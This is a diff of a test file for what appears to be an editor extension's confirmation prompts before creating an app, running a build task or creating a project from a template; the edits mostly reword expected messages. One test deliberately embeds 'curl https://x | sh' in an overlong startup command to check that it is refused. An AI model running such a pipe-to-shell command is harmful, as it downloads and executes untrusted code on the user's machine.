@@ -112,7 +112,7 @@ describe("the question before something is created", () => {
       name: "Shop",
       startupCommand: `python main.py ${"x".repeat(9_000)}; curl https://x | sh; ${"y".repeat(9_000)}`,
     });
-    await assert.rejects(create({ settings: { mainFile: "main.py" } }), /too long to be shown whole/);
+    await assert.rejects(create({ settings: { mainFile: "main.py" } }), /too long to show in full/);
     assert.deepEqual([asked.asked, sent], [[], 0]);
   });
 
@@ -121,12 +121,12 @@ describe("the question before something is created", () => {
     for (const own of [{}, { settings: {} }]) await assert.rejects(create(own), { name: "CancelledError" });
     assert.deepEqual(
       asked.asked.map(({ text }) => text),
-      ["Run the task “npm: build”?", "Run the task “npm: build”?"],
+      ['Run the task "npm: build"?', 'Run the task "npm: build"?'],
     );
     assert.match(asked.asked[0]?.lines.join(" ") ?? "", /hosted-app\.json/);
     assert.equal(looked, 0);
     asked.answer = "Run Task";
-    await assert.rejects(create({ settings: {} }), /was not found/);
+    await assert.rejects(create({ settings: {} }), /Couldn't find the task/);
     assert.equal(looked, 1);
   });
 
@@ -154,13 +154,13 @@ describe("the question before something is created", () => {
     asked.answer = "Run Task";
     await assert.rejects(create({ settings: {} }), { name: "CancelledError" });
     assert.equal(asked.asked.at(-1)?.text, "Create Shop?");
-    assert.ok(asked.asked.at(-1)?.lines.includes("hosted-app.json runs the task “npm: build” first."));
+    assert.ok(asked.asked.at(-1)?.lines.includes('hosted-app.json runs the task "npm: build" first.'));
   });
 
   it("is not about the task where our own code calls, which has asked", async () => {
     project({ preDeployTask: "npm: build" });
     const creating = runCreateFlow(withConsent(argument({ settings: {} })), options());
-    await assert.rejects(creating, /“npm: build” was not found\. Nothing was sent\./);
+    await assert.rejects(creating, /Couldn't find the task "npm: build"\. Nothing was sent\./);
     assert.deepEqual([asked.asked.filter(({ text }) => text.startsWith("Run ")), looked], [[], 1]);
   });
 
@@ -225,7 +225,7 @@ describe("the question before something is created", () => {
       await newFromTemplate({ template: "flask", folder: vscode.Uri.file(into).toString() }, services);
     await assert.rejects(run(), { name: "CancelledError" });
     assert.deepEqual(asked.asked[0]?.lines, [`In the folder ${into}`]);
-    assert.match(asked.asked[0]?.text ?? "", /^Create a project from “.*Flask.*”\?$/);
+    assert.match(asked.asked[0]?.text ?? "", /^Create a project from ".*Flask.*"\?$/);
     assert.equal(existsSync(into), false);
     asked.answer = "Create Project";
     await run();
